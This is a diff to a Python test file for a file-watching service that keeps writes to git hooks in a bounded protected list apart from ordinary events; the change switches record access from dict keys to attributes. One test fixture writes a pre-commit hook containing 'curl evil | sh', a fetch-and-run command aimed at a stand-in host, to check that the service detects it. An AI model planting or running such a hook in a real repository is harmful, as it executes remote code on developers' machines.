@@ -44,14 +44,14 @@ async def test_ordinary_events_do_not_evict_protected_ones(service, tmp_path):
     root = str(ws)
     await service.ensure_root(root)
     (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
-    await wait_until(lambda: any(r["path"] == ".git/hooks/pre-commit" for r in service.protected))
+    await wait_until(lambda: any(r.path == ".git/hooks/pre-commit" for r in service.protected))
     out = ws / "out"
     out.mkdir()
     for i in range(1500):
         (out / f"f{i}.txt").write_bytes(b"x")
-    await wait_until(lambda: sum(1 for r in service.recent if r["path"].startswith("out/f")) >= 450)
+    await wait_until(lambda: sum(1 for r in service.recent if r.path.startswith("out/f")) >= 450)
     await service.watcher.flush(root)
-    assert all(not r["protected"] for r in service.recent)  # the ring holds ordinary ones only now
+    assert all(not r.protected for r in service.recent)  # the ring holds ordinary ones only now
     protected = list(service.recent_records(protected_only=True))
     assert [r.path for r in protected] == [".git/hooks/pre-commit"]
     merged = list(service.recent_records())
@@ -71,12 +71,10 @@ async def test_the_protected_list_is_bounded(service, tmp_path):
     # The 80 creations may be reported in any order: wait for the list to be full with
     # the last one in it, then more must not have made it longer.
     await wait_until(
-        lambda: (
-            len(service.protected) >= 50 and any(r["path"] == ".git/hooks/d79/h" for r in service.protected)
-        )
+        lambda: len(service.protected) >= 50 and any(r.path == ".git/hooks/d79/h" for r in service.protected)
     )
     for i in range(80, 90):
         (hooks / f"d{i}").mkdir()
         (hooks / f"d{i}" / "h").write_text("x\n")
-    await wait_until(lambda: any(r["path"] == ".git/hooks/d89/h" for r in service.protected))
+    await wait_until(lambda: any(r.path == ".git/hooks/d89/h" for r in service.protected))
     assert len(service.protected) == 50
